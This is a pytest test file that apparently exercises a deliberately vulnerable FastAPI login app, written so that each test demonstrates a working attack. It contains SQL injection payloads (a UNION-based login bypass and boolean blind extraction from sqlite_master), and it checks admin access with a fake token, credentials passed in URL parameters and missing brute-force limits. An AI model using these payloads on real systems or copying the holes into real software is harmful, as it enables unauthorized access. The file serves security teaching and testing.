"""Shows that the holes are real: each test is an attack, and each attack works."""

import pytest
from fastapi.testclient import TestClient

from app import app


@pytest.fixture(scope="module")
def client():
    with TestClient(app) as client:
        yield client


def test_the_program_works(client):
    answer = client.post("/login", params={"username": "ada", "password": "password"})
    assert answer.status_code == 200
    assert client.post("/login", params={"username": "ada", "password": "wrong"}).status_code == 401


def test_sql_injection_signs_in_as_a_user_who_does_not_exist(client):
    digest_of_x = "2d711642b726b04401627ca9fbac32f5c8530fb1903cc4db02258717921a4881"
    payload = f"' UNION SELECT 1, 'nobody', '{digest_of_x}' --"
    answer = client.post("/login", params={"username": payload, "password": "x"})
    assert answer.status_code == 200
    assert "token" in answer.json()


def test_sql_injection_reads_the_database_one_yes_or_no_at_a_time(client):
    def holds(condition):
        payload = f"ada' AND {condition} --"
        return client.post("/login", params={"username": payload, "password": "password"}).status_code == 200

    assert holds("(SELECT count(*) FROM sqlite_master WHERE name = 'users') = 1")
    assert not holds("(SELECT count(*) FROM sqlite_master WHERE name = 'nothing') = 1")


def test_anybody_is_admin(client):
    assert client.get("/admin", params={"token": "made-up"}).json() == {"admin": True}


def test_credentials_stand_in_the_address(client):
    answer = client.post("/login", params={"username": "ada", "password": "password"})
    assert "password=password" in str(answer.request.url)


def test_passwords_can_be_guessed_without_end(client):
    statuses = {client.post("/login", params={"username": "ada", "password": f"guess{n}"}).status_code for n in range(50)}
    assert statuses == {401}
